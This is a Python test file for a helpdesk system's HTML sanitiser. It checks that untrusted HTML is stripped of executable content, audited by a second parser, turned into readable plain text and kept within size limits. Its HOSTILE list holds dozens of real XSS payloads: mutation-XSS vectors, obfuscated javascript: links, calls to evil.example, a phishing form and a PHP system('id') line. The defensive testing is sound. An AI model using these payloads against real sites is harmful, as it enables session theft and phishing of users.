"""What is shown of HTML that anybody may have written, and what it says in plain words.

How it can fail: something executable survives, directly, by a second parsing (mutation), by an odd spelling, or by a
character that cannot be seen; what is shown is not what was checked; the words are lost with the tags, or run into each
other; a link hides where it leads; a small text keeps the machine busy, or grows without end; other scripts suffer.
"""

from html.parser import HTMLParser
from typing import Any, Final
from urllib.parse import urlsplit

import marshmallow as ma
import pytest
from hypothesis import given
from hypothesis import strategies as st

from helpdesk.kernel.rich_text import Unreadable, document, from_html, from_text, joined, plain_text, sanitised
from helpdesk.kernel.schemas import Html, Schema

SHOWN: Final = {
    *("a", "b", "i", "strong", "em", "u", "code", "br", "p", "div", "ul", "ol", "li", "blockquote", "pre", "hr"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "td", "th"),
}

HOSTILE: Final = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script >",
    "<script/x>alert(1)</script/y>",
    "<<script>alert(1);//<</script>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=1>click</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><a id='</title><img src=x onerror=alert(1)>'>",
    "<style>@import 'https://evil.example/x.css'; p{background:url(javascript:alert(1))}</style>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif' width=1 height=1>",
    '<img """><script>alert(1)</script>">',
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<body onload=alert(1)>",
    "<p onclick=alert(1) style='background:url(javascript:alert(1))' class=x id=y>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='java\u200bscript:alert(1)'>x</a>",
    "<a href='\u202ejavascript:alert(1)'>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=blob:https://x/y>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href=/api/v1/tokens>x</a>",
    "<a href='https://x' target=_blank rel=opener ping=https://evil.example download>x</a>",
    "<a href='https://x/\"><script>alert(1)</script>'>x</a>",
    "<a href='https://x' style='display:none'>x</a>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php system('id') ?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<form action=https://evil.example><input type=password name=p><button>log in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<b><p><i></b><table><a><p></i></table></p>",
    "<table><td><a href=https://x><table><td><a href=javascript:alert(1)>",
    "<p>&#824;x</p>",  # a stroke that, put together with the sign before it, would make another sign
    "<pre>\n\n\n<script>alert(1)</script></pre>",
    "{{complaint.reference}}<%= 7*7 %>${7*7}",
    "\ufeff<script>alert(1)</script>",
)


class Auditor(HTMLParser):
    """Another parser than the one that sanitised: what stands there for it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in SHOWN:
            self.wrong.append(tag)
        for name, value in attrs:
            if (tag, name) == ("a", "rel") and value == "noopener noreferrer nofollow":
                continue
            if (tag, name) != ("a", "href") or urlsplit(value or "").scheme not in {"https", "mailto"}:
                self.wrong.append(f"{tag} {name}={value}")

    def handle_endtag(self, tag: str) -> None:
        if tag not in SHOWN:
            self.wrong.append(f"/{tag}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"declaration {decl}")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(f"declaration {data}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"instruction {data}")


def harmless(given: str) -> str:
    """What is shown of it, once it has been looked at; empty where it is refused."""
    try:
        html = sanitised(given)
    except Unreadable:
        return ""
    auditor = Auditor()
    auditor.feed(html)
    auditor.close()
    assert auditor.wrong == [], (given, html)
    assert sanitised(html) == html, given
    assert not set(html) & {*"\x00\x01\x0e\x7f\u200b\u2028\u202a\u202b\u202c\u202d\u202e\u2066\u2069\ufeff"} - {
        "\u2028"
    }
    return html


class TestHostile:
    @pytest.mark.parametrize("text", HOSTILE)
    def test_alone_and_within(self, text: str) -> None:
        harmless(text)
        harmless(f"<p>Dear all, {text} yours</p>")
        harmless(f"<ul><li>{text}</ul><blockquote>{text}{text}")

    def test_all_in_one(self) -> None:
        harmless("".join(HOSTILE))
        harmless("".join(reversed(HOSTILE)))

    @pytest.mark.parametrize(
        "text", [text for text in HOSTILE if text.lower().startswith(("<script", "<svg", "<style"))]
    )
    def test_a_program_is_no_words(self, text: str) -> None:
        assert "alert" not in plain_text(text)

    def test_a_target_is_one_word(self) -> None:
        assert plain_text("<a href='https://x/\"> <b>'>x</a>") == "x <https://x/%22%3E%20%3Cb%3E>"

    _PIECES = st.sampled_from(
        [
            *HOSTILE,
            *(f"<{end}{tag}>" for tag in sorted(SHOWN) for end in ("", "/")),
            *(
                "<!--",
                "-->",
                "<",
                ">",
                "&",
                '"',
                "'",
                "x",
                "\u202e",
                "\u0338",
                "\n",
                "<p title='",
                "<a href='https://x'>",
            ),
            *(
                "<svg>",
                "</svg>",
                "<math>",
                "<mtext>",
                "<style>",
                "</style>",
                "<form>",
                "</form>",
                "<select>",
                "<template>",
            ),
            "<foreignObject>",
        ]
    )

    @given(st.lists(_PIECES | st.text(max_size=8), max_size=14).map("".join))
    def test_whatever_is_put_together(self, text: str) -> None:
        harmless(text)
        words = plain_text(text)
        assert words == words.strip()


class TestBounds:
    def test_tags_without_end(self) -> None:
        for text in ("<b>" * 30_000, "<ul><li>" * 12_000, "<br>" * 20_000, "<" * 100_000):
            with pytest.raises(Unreadable, match="tags"):
                sanitised(text)

    def test_too_deep(self) -> None:
        assert sanitised("<div>" * 99 + "x")
        with pytest.raises(Unreadable, match="deep"):
            sanitised("<div>" * 101 + "x")

    def test_overlapping_tags_do_not_grow_without_end(self) -> None:
        with pytest.raises(Unreadable):
            sanitised("<a><b><i><u><em><strong><code><p>x" * 1200)

    def test_a_long_letter(self) -> None:
        letter = "<p>" + "长" * 20_000 + "</p><p>" + "word " * 10_000 + "</p>"
        assert len(from_html(letter).plain) == 20_000 + 2 + 49_999

    def test_indentation_has_an_end(self) -> None:
        assert len(plain_text("<ul><li>" * 45 + "x")) < 1000

    @pytest.mark.parametrize("text", ["", " ", "<p></p>", "<img src=x>", "<script>x</script>", "&nbsp;\u200b", "<br>"])
    def test_nothing_to_read(self, text: str) -> None:
        with pytest.raises(Unreadable, match="no text"):
            from_html(text)


class TestPlain:
    @pytest.mark.parametrize(
        ("html", "text"),
        [
            ("Hello<br>you", "Hello\nyou"),
            ("<p>One</p>\n <p>two\n  three</p>", "One\n\ntwo three"),
            ("<div>a</div><div>b</div>c", "a\nb\nc"),
            ("<h2>Title</h2>text<hr>end", "Title\n\ntext\n\n---\n\nend"),
            ("<ul><li>one<li>two<ul><li>deep</ul></ul>end", "- one\n- two\n  - deep\n\nend"),
            ("<ol><li>x</li><li><p>y</p><p>z</p></li></ol>", "1. x\n2. y\n\n  z"),
            ("<blockquote>they<br>wrote<blockquote>we</blockquote></blockquote>so", "> they\n> wrote\n>\n> > we\n\nso"),
            ("<table><tr><th>A<th>B<tr><td>1<td>2</table>", "A | B\n1 | 2"),
            ("<pre>a\n  b</pre>c", "a\n  b\n\nc"),
            ("see <a href='https://x.example/?a=1&amp;b=2'>here</a>.", "see here <https://x.example/?a=1&b=2>."),
            ("<a href='http://x.example'>plain</a>", "plain <http://x.example>"),
            ("<a href='https://x.example'>https://x.example</a>", "https://x.example"),
            ("<a href='https://evil.example'>https://bank.example</a>", "https://bank.example <https://evil.example>"),
            ("<a href='mailto:a@b.example'>a@b.example</a>", "a@b.example"),
            ("<a href='mailto:a@b.example'>write</a>", "write <a@b.example>"),
            ("<a href='javascript:x'>t</a>", "t"),
            ("<img alt='Logo' src=x> hi", "[Logo] hi"),
            ("caf&eacute; &lt;b&gt; &amp;amp; 1&nbsp;000 &euro;", "café <b> &amp; 1 000 €"),
            ("&#1;a&#x202e;b&#0;", "ab\ufffd"),
            ("e&#769;", "é"),
            ("投诉<b>很</b>久", "投诉很久"),
            ("<p dir=rtl>\u0634\u06a9\u0648\u200c\u0647\u0627</p>", "\u0634\u06a9\u0648\u200c\u0647\u0627"),
            ("\U0001f468\u200d\U0001f469", "\U0001f468\u200d\U0001f469"),
            ("<unknown-tag>kept</unknown-tag>", "kept"),
        ],
    )
    def test_reads(self, html: str, text: str) -> None:
        assert plain_text(html) == text

    def test_three_forms(self) -> None:
        found = from_html("<p onclick=x>Hi</p>")
        assert (found.plain, found.html, found.given) == ("Hi", "<p>Hi</p>", "<p onclick=x>Hi</p>")
        assert from_text("a < b").html is None

    def test_joined(self) -> None:
        both = joined([from_html("<b>one"), from_text("two <\nthree")])
        assert both.plain == "one\n\ntwo <\nthree"
        assert both.html == "<div><b>one</b></div><div>two &lt;<br>three</div>"
        assert harmless(both.html) == both.html
        assert joined([from_text("a"), from_text("b")]).html is None

    def test_a_document_for_a_mail(self) -> None:
        assert document("<p>x</p>").count("<body>") == 1


class TestField:
    class Given(Schema):
        html = Html(max_length=50)

    def load(self, value: Any) -> Any:
        return self.Given().load({"html": value})["html"]

    def test_kept_as_it_came(self) -> None:
        assert self.load(" <p>e\u0301</p> ") == " <p>e\u0301</p> "

    @pytest.mark.parametrize("value", ["<p></p>", "a\x00b", "x" * 51, "", 7, None, "<p>\ud800</p>", "<div>" * 9])
    def test_refused(self, value: Any) -> None:
        with pytest.raises(ma.ValidationError):
            self.load(value)
